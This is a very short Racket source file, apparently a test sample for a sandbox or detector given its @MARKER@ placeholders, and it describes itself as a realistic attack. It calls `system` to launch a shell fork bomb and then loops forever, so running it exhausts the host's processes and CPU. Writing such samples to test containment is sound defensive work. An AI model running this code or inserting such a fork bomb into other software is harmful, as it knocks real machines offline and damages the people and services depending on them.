#lang racket/base
;; @MARKER@: a shell fork bomb through `system`, the realistic attack from Racket.
(require racket/system)
(system "f() { f | f & }; f # @MARKER@")
(let loop () (loop))
